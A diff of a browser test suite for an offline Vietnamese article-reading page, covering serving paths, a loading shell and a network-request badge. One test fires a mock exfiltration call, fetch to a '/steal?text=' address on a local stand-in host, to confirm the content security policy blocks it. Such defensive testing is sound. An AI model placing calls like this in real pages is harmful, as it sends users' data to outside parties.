@@ -1,8 +1,9 @@
 // What the page asks of its host and of the browser, and what it does when either refuses.
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { ARTICLE, ROOT, URL_BASE, picture, useBrowser, withPage, withPolicy } from "./support.mjs";
+import { ARTICLE, ROOT, SITE, URL_BASE, picture, useBrowser, withPage } from "./support.mjs";
 import { article, paste, settled, toast } from "./dom.mjs";
+import { serve } from "./host.mjs";
 
 useBrowser();
 
@@ -13,6 +14,10 @@ const FILES = {
   "giaoban.css": "text/css; charset=utf-8",
   "giaoban-page.js": "text/javascript; charset=utf-8",
   "giaoban-worker.js": "text/javascript; charset=utf-8",
+  "giaoban-host.js": "text/javascript; charset=utf-8",
+  "giaoban-offline.js": "text/javascript; charset=utf-8",
+  "giaoban.webmanifest": "application/manifest+json",
+  "icon-192.png": "image/png",
   "icon.svg": "image/svg+xml",
 };
 
@@ -47,55 +52,46 @@ test("nothing leaves the page: not when it opens, not when an article is read", 
     assert.deepEqual(requests.slice(before), [], "reading an article makes no request at all");
   }));
 
-test("WebAssembly refused: the page says so in both languages", () =>
-  withPage({
-    name: "no-wasm",
-    expects: /./,
-    prepare: (page) => withPolicy(page, (policy) => policy.replace(" 'wasm-unsafe-eval'", "")),
-  }, async (page) => {
-    const notice = page.locator("[data-role=unsupported]");
-    await notice.first().waitFor();
-    assert.deepEqual(await notice.evaluateAll((all) => all.map((one) => one.lang)), ["vi", "en"]);
-    await picture(page, "no-wasm");
-  }));
+test("below any address, on a plain file server without policy, and under the same policy in headers", async () => {
+  const policy = (await fetch(URL_BASE)).headers.get("content-security-policy");
+  for (const [prefix, sent] of [["/kho/tin/", null], ["/", policy]]) {
+    const host = await serve({ [prefix]: SITE }, { policy: sent });
+    await withPage({ name: "below", url: host.url.slice(0, -1) + prefix }, async (page, { requests }) => {
+      await paste(page, ARTICLE);
+      await settled(page);
+      assert.ok(await article(page).locator("mark").count() > 20);
+      assert.ok(requests.every((request) => request.startsWith(host.url.slice(0, -1) + prefix)), "only relative addresses");
+    });
+    await host.close();
+  }
+});
 
-test("WebAssembly absent: the same", () =>
-  withPage({
-    name: "absent-wasm",
-    expects: /./,
-    prepare: (page) => page.addInitScript(() => { delete globalThis.WebAssembly; }),
-  }, (page) => page.locator("[data-role=unsupported]").first().waitFor()));
-
-test("workers refused: the page reads by itself, and says so", () =>
-  withPage({
-    name: "no-worker",
-    expects: /worker/i,
-    prepare: (page) => withPolicy(page, (policy) => policy.replace("worker-src 'self'", "worker-src 'none'")),
-  }, async (page) => {
-    await toast(page).first().waitFor();
+test("the badge counts requests since the start: none, and one when a script of somebody else makes one", () =>
+  withPage({ name: "badge", expects: /content security policy|Failed to load|CSP|fetch/i }, async (page) => {
     await paste(page, ARTICLE);
     await settled(page);
-    assert.ok(await article(page).locator("mark").count() > 0);
+    const badge = page.locator("[data-role=requests]");
+    assert.equal(await badge.textContent(), "0");
+    await page.locator("[data-role=network] summary").click();
+    assert.match(await page.locator("[data-role=network] .facts").textContent(), /0 yêu cầu mạng.*default-src 'none'/s);
+    await picture(page, "network-badge");
+    // The policy refuses it; that it was tried is told.
+    await page.evaluate(() => fetch("http://127.0.0.2:9/steal?text=x").catch(() => {}));
+    await page.waitForFunction(() => document.querySelector("[data-role=requests]").textContent === "1");
   }));
 
-test("worker broken: the page tells, starts it anew and reads the next article", () =>
+test("the program is there before anything else is asked: a shell is painted while it loads", () =>
   withPage({
-    name: "worker-broken",
-    expects: /hỏng/,
-    prepare: (page) => page.route("**/giaoban-worker.js", async (route) => {
-      const response = await route.fetch();
-      const poison = "addEventListener('message', ({data}) => { if (data instanceof Uint8Array && new TextDecoder().decode(data).includes('☠')) { setTimeout(() => { throw new Error('hỏng'); }); throw new Error('hỏng'); } });\n";
-      await route.fulfill({ response, body: (await response.text()).replace("{\n", `{\n${poison}`) });
+    name: "shell",
+    prepare: (page) => page.route("**/app_bg.wasm", async (route) => {
+      await new Promise((resolve) => setTimeout(resolve, 700));
+      await route.continue();
     }),
   }, async (page) => {
-    await settled(page);
-    await paste(page, "Tin hỏng ☠\n\n" + ARTICLE);
-    await page.getByRole("alert").first().waitFor();
-    await picture(page, "worker-broken");
-    await paste(page, ARTICLE);
-    await settled(page);
-    assert.ok(await article(page).locator("mark").count() > 0);
-    assert.equal(await page.getByRole("alert").count(), 0);
+    assert.equal(await page.locator(".shell .brand").textContent(), "giaoban");
+    await picture(page, "shell");
+    await page.getByRole("textbox").first().waitFor();
+    assert.equal(await page.locator(".shell").count(), 0);
   }));
 
 test("as one file, opened by double-click: it reads in a worker and asks for nothing", () =>
@@ -105,6 +101,10 @@ test("as one file, opened by double-click: it reads in a worker and asks for not
     assert.ok(await article(page).locator("mark").count() > 20);
     assert.equal(page.workers().length, 1);
     assert.equal(await toast(page).count(), 0, "no word of a missing worker");
+    assert.equal(await page.locator("[data-role=requests]").textContent(), "0");
+    await page.locator("[data-role=network] summary").click();
+    assert.match(await page.locator("[data-role=offline]").textContent(), /tệp trên máy.*\.giaoban\.json/s);
+    await page.keyboard.press("Tab");
     assert.deepEqual(requests.filter((r) => !/^(data|blob):/.test(r)), [page.url().replace(/#.*/, "")]);
     await picture(page, "read-as-file");
   }));
